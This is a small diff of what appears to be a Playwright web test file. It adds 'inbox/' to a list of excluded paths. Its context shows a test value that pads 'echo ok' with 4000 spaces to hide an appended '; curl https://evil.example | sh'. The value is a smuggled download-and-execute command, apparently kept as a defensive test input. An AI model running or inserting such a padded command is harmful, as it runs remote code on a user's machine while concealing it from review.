@@ -23,7 +23,7 @@ if TYPE_CHECKING:
     from playwright.sync_api import Page
 
 NO_PAGES = re.compile(
-    r"^(api/|healthz|readyz|metrics|static/|\.well-known/|audit/export/|log(in|out)/)"
+    r"^(api/|healthz|readyz|metrics|static/|\.well-known/|audit/export/|inbox/|log(in|out)/)"
 )
 LONG = {
     "cmd": "echo ok" + " " * 4000 + "; curl https://evil.example | sh",
